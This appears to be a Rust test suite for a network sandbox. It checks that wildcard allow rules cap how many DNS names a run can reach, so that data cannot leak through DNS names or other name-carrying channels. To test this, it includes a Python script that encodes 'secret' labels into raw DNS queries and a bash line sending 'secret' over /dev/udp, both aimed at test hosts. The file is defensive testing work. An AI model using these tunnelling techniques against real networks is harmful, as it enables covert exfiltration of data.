//! Wildcards that carry data: whoever owns the zone sees so many names of a run, and no more.

use std::collections::BTreeSet;

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

const TWO: &str = "allow = [\"*.tunnel.test\", \"www.tunnel.test\"]\n[limits]\nwildcard-names = 2\n";

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        owner_sees_so_many_names,
        limit_of_the_rule_and_of_the_file,
        listed_names_and_names_seen_go_on,
        names_that_are_only_dialled_count,
        synthetic_answers_count_when_dialled,
        monitor_mode_tells,
        advice_names_the_limit,
    );
}

/// The names below a zone that any resolver was asked for.
fn asked(world: &World, zone: &str) -> BTreeSet<String> {
    let asked = world.dns().asked().into_iter().map(|asked| asked.question.name.to_lowercase());
    asked.filter(|name| name.ends_with(zone)).collect()
}

/// In every way to ask, and whether or not the names exist.
fn owner_sees_so_many_names(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).allow("*.tunnel.test").allow("203.0.113.53:53");
    let outcome = jail.python(
        "import socket, struct\n\
         def ask(name, kind, server, tcp):\n\
         \x20   labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\\0'\n\
         \x20   query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>2H', kind, 1)\n\
         \x20   s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)\n\
         \x20   s.settimeout(5)\n\
         \x20   s.connect((server, 53))\n\
         \x20   s.sendall(struct.pack('>H', len(query)) + query if tcp else query)\n\
         \x20   s.recv(2000)\n\
         own = next(l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver'))\n\
         for n in range(150):\n\
         \x20   ask(f'SeCrEt-{n}.tunnel.test', (1, 28, 16, 15)[n % 4], (own, '203.0.113.53')[n % 2], n % 3 == 0)\n\
         print('done')\n",
    );
    outcome.assert_success().assert_stdout("done\n").assert_denied("dns", "secret-64.tunnel.test", "limit");
    let seen = asked(&world, ".tunnel.test");
    assert_eq!(seen, (0..64).map(|n| format!("secret-{n}.tunnel.test")).collect(), "{}", seen.len());
    assert!(!world.wire().saw_bytes_of_any_case(b"secret-64"));
    world.assert_nothing_left();
}

fn limit_of_the_rule_and_of_the_file(mode: Mode) {
    let world = World::new();
    let policy = "allow = [\"**.few.test\"]\n[limits]\nwildcard-names = 3\n\
                  [[rule]]\nhost = \"*.more.test\"\nmax-names = 5\n";
    let jail = Jail::new(&world, mode).policy(policy);
    let outcome =
        jail.shell("for n in 1 2 3 4 5 6 7; do getent hosts n$n.x.few.test n$n.more.test; done; true");
    assert_eq!(asked(&world, ".few.test").len(), 3, "{outcome}");
    assert_eq!(asked(&world, ".more.test").len(), 5, "{outcome}");
    let text = jail.without_log_file().shell("for n in 1 2 3 4; do dig n$n.x.few.test; done");
    text.assert_says("EDE: 17 (Filtered)").assert_says("to allow: --allow n4.x.few.test");
    for key in ["max-names", "wildcard-names"] {
        assert!(text.stderr.contains(key) && text.stdout.contains(key), "{text}");
    }
}

fn listed_names_and_names_seen_go_on(mode: Mode) {
    let world = World::new();
    let (site, listed) = (world.site("a.tunnel.test"), world.site("www.tunnel.test"));
    world.site("c.tunnel.test");
    let script = "for n in a b c www A; do curl -sS https://$n.tunnel.test/; done";
    let outcome = Jail::new(&world, mode).policy(TWO).shell(script);
    assert_eq!((site.requests().len(), listed.requests().len()), (2, 1), "{outcome}");
    outcome.assert_denied("dns", "c.tunnel.test", "limit");
    assert!(!world.dns().was_asked_for("c.tunnel.test"));
}

/// The name is in the ClientHello, the Host field or the CONNECT only; the address is another's.
fn names_that_are_only_dialled_count(mode: Mode) {
    let world = World::new();
    let site = world.site("a.tunnel.test");
    for name in ["b", "c", "d", "e"] {
        world.zone().address(&format!("{name}.tunnel.test"), site.v4);
    }
    let jail = Jail::new(&world, mode).policy(TWO).option("--keep-proxy-env");
    let outcome = jail.shell(
        "curl -sS http://a.tunnel.test/
         for name in b c; do curl -sS -H Host:$name.tunnel.test http://a.tunnel.test/; done
         curl -sSk --connect-to d.tunnel.test:443:a.tunnel.test:443 https://d.tunnel.test/
         curl -sSk -x http://a.tunnel.test:80 https://e.tunnel.test/; true",
    );
    outcome.assert_says("more than 2 names under *.tunnel.test").assert_denied(
        "http",
        "c.tunnel.test",
        "limit",
    );
    outcome.assert_denied("tls", "d.tunnel.test", "limit").assert_denied("http", "e.tunnel.test", "limit");
    assert_eq!(asked(&world, ".tunnel.test").len(), 2, "{outcome}");
    for name in ["c", "d", "e"] {
        assert!(!world.wire().saw_bytes_of_any_case(format!("{name}.tunnel").as_bytes()), "{outcome}");
    }
    assert_eq!(site.requests().len(), 2, "{outcome}");
}

fn synthetic_answers_count_when_dialled(mode: Mode) {
    let world = World::new();
    let (site, last) = (world.site("n9.tunnel.test"), world.site("n10.tunnel.test"));
    let (late, _) = world.udp_echo("udp.tunnel.test", 99);
    let policy = "allow = [\"*.tunnel.test\", \"*.tunnel.test:99/udp\"]\n[limits]\nwildcard-names = 2\n\
                  [dns]\nanswers = \"synthetic\"\n";
    let outcome = Jail::new(&world, mode).policy(policy).shell(
        "for n in 1 2 3 4 5 6 7 8; do getent ahostsv4 n$n.tunnel.test >/dev/null; done
         curl -sS http://n9.tunnel.test/; curl -sSk https://n10.tunnel.test/; curl -sS http://n11.tunnel.test/
         bash -c 'echo secret >/dev/udp/udp.tunnel.test/99'; true",
    );
    assert_eq!((site.requests().len(), last.connections()), (1, 1), "{outcome}");
    assert_eq!(asked(&world, ".tunnel.test").len(), 2, "{outcome}");
    outcome.assert_denied("http", "n11.tunnel.test", "limit");
    assert_eq!(late.connections(), 0, "{outcome}");
}

fn monitor_mode_tells(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).policy(TWO).option("--mode").option("monitor");
    let outcome = jail.shell("for n in 1 2 3; do getent hosts $n.tunnel.test; done; true");
    assert_eq!(asked(&world, ".tunnel.test").len(), 3);
    let told = outcome.events.iter().filter(|event| event.verdict == "would-deny");
    let names: BTreeSet<_> = told.map(|event| (event.name.clone(), event.reason.clone())).collect();
    assert_eq!(names, [(Some("3.tunnel.test".into()), Some("limit".into()))].into(), "{outcome}");
}

fn advice_names_the_limit(mode: Mode) {
    let world = World::new();
    let path = world.files().shared().join("advice.toml");
    std::fs::write(&path, "[[rule]]\nhost = \"*.tunnel.test\"\nmax-names = 7\n").unwrap();
    let path_text = path.to_str().unwrap();
    let policy = |words: &[&str]| Jail::bare(&world, mode).run([&["policy"], words].concat());
    policy(&["check", path_text]).assert_success().assert_says("at most 7 names in a run");
    let explained = policy(&["explain", path_text, "x.tunnel.test"]);
    explained.assert_success().assert_says("counts as one of at most 7 names under *.tunnel.test");
    std::fs::write(&path, "[[rule]]\nhost = \"a.test\"\nmax-names = 7\n[limits]\nwildcard-names = 0\n")
        .unwrap();
    policy(&["check", path_text])
        .assert_says("for allow rules with a wildcard")
        .assert_says("between 1 and 65536");
}
